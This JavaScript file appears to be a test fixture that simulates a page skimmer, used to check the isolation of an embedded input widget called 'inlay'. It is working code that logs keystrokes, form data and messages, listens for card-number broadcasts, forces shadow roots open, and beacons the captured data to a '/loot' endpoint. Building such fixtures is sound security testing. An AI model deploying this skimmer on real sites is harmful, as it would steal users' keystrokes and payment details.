// What a skimmer would do: it runs before everything else and keeps all that comes by. Served as /spy.js.
(() => {
  const loot = [];
  const ports = [];
  const native = {
    stringify: JSON.stringify,
    push: Array.prototype.push,
    beacon: navigator.sendBeacon?.bind(navigator),
  };

  const describe = (value) => {
    const seen = new Set();
    try {
      return native.stringify(value, (key, entry) => {
        if (typeof entry === 'function') return undefined;
        if (typeof entry === 'object' && entry !== null) {
          if (seen.has(entry)) return undefined;
          seen.add(entry);
          if (entry instanceof MessagePort) {
            native.push.call(ports, entry);
            return 'port';
          }
          if (entry instanceof Error) return `${entry.name} ${entry.message} ${entry.code ?? ''}`;
          if (entry instanceof Node || (entry.window ?? undefined) === entry) return 'node';
        }
        return entry;
      });
    } catch {
      return String(value);
    }
  };
  const keep = (where, value) => {
    const text = `${where}: ${describe(value)}`;
    loot.push(text);
    if (self !== top) native.beacon?.('/loot', text);
  };
  const describeEvent = (event) => {
    const told = {};
    for (let level = event; level && level !== Event.prototype; level = Object.getPrototypeOf(level)) {
      for (const name of Object.getOwnPropertyNames(level)) {
        try {
          const value = event[name];
          if (['string', 'number', 'boolean'].includes(typeof value) && name !== 'timeStamp') told[name] = value;
          if (['data', 'detail', 'state', 'error', 'card', 'fieldErrors'].includes(name)) told[name] = value;
        } catch {}
      }
    }
    return told;
  };

  const hear = (where) => (event) => {
    for (const port of event.ports ?? []) wire(port);
    keep(where, event.data);
  };
  const wired = new WeakSet();
  // oxlint-disable-next-line unbound-method -- bound right here.
  const listen = Function.prototype.call.bind(EventTarget.prototype.addEventListener);
  const wire = (port) => {
    if (wired.has(port)) return;
    wired.add(port);
    native.push.call(ports, port);
    listen(port, 'message', hear('port'));
  };

  listen(window, 'message', hear('window'), true);
  const types = [
    'keydown',
    'keyup',
    'keypress',
    'beforeinput',
    'input',
    'change',
    'paste',
    'copy',
    'cut',
    'drop',
    'focusin',
    'focusout',
    'selectionchange',
    'submit',
    'formdata',
    'error',
    'unhandledrejection',
    'securitypolicyviolation',
    'hashchange',
    'popstate',
    'storage',
    'inlay-change',
    'inlay-token',
    'inlay-error',
    'inlay-ready',
    'inlay-focus',
    'inlay-blur',
  ];
  for (const type of types) listen(window, type, (event) => keep(type, describeEvent(event)), true);

  const wrap = (owner, name, note) => {
    const original = owner?.[name];
    if (typeof original !== 'function') return;
    owner[name] = function (...given) {
      note.call(this, given);
      return Reflect.apply(original, this, given);
    };
  };
  wrap(MessagePort.prototype, 'postMessage', function (given) {
    wire(this);
    keep('port.postMessage', given);
  });
  wrap(Window.prototype, 'postMessage', (given) => keep('window.postMessage', given));
  wrap(window, 'postMessage', (given) => keep('window.postMessage', given));
  wrap(BroadcastChannel.prototype, 'postMessage', (given) => keep('broadcast', given));
  wrap(JSON, 'stringify', (given) => keep('stringify', given[0]));
  wrap(window, 'fetch', (given) => keep('fetch', given));
  wrap(customElements, 'define', (given) => keep('define', given[0]));
  wrap(Element.prototype, 'setAttribute', (given) => keep('setAttribute', given));
  wrap(Node.prototype, 'appendChild', function () {
    keep('appendChild', this.nodeName);
  });
  wrap(Element.prototype, 'attachShadow', (given) => {
    given[0] = { ...given[0], mode: 'open' };
  });
  wrap(console, 'error', (given) => keep('console', given));
  wrap(console, 'warn', (given) => keep('console', given));
  wrap(XMLHttpRequest.prototype, 'send', (given) => keep('xhr', given));
  wrap(FormData.prototype, 'append', (given) => keep('form', given));
  wrap(HTMLFormElement.prototype, 'requestSubmit', () => keep('requestSubmit', ''));
  wrap(EventTarget.prototype, 'dispatchEvent', (given) => keep('dispatch', describeEvent(given[0])));

  const onmessage = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
  Object.defineProperty(MessagePort.prototype, 'onmessage', {
    ...onmessage,
    set(listener) {
      wire(this);
      onmessage.set.call(this, listener);
    },
  });
  const Channel = MessageChannel;
  window.MessageChannel = class extends Channel {
    constructor() {
      super();
      wire(this.port1);
      wire(this.port2);
    }
  };
  for (const name of ['inlay', 'inlay-rpc', 'inlay-alive', 'cardNumber', 'collect']) {
    listen(new BroadcastChannel(name), 'message', hear('broadcast'));
  }
  new PerformanceObserver((list) => {
    // Its own reports are requests too.
    for (const { name, entryType } of list.getEntries()) if (!name.endsWith('/loot')) keep(entryType, name);
  }).observe({ entryTypes: ['resource', 'mark', 'measure'] });

  // For the tests' own attacks.
  Object.assign(window, { loot, lootedPorts: ports, keepLoot: keep });
})();
